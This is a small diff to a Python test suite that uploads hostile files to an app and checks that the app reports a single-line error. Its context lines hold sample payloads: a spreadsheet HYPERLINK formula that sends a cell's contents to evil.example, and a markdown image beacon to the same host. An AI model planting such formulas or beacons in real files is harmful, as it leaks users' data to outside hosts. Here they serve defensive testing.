@@ -27,6 +27,7 @@ from terr.workspace.plan import editing
 from terr.workspace.reports import downloads
 from tests.conftest import ROOT
 from tests.helpers.spaces import DELAWARE, KENT, RHODE_ISLAND, csv_of, data_set, start
+from tests.pages.test_pages import worked
 
 FORMULA = '=HYPERLINK("http://evil.example?"&A1,"x")'
 IMAGE = "![x](http://evil.example/x.png)"
@@ -183,7 +184,7 @@ def test_hostile_files_end_in_one_line_on_the_page(open_app, app_ws, tmp_path, n
     window = open_app()
     before = {p for p in tmp_path.rglob("*") if p.is_file()}
     window.file_uploader[0].upload(name, HOSTILE_FILES[name])
-    window.run()
+    worked(window.run())
     assert not window.exception
     assert len(window.error) == 1, [e.value for e in window.error]
     assert "\n" not in window.error[0].value
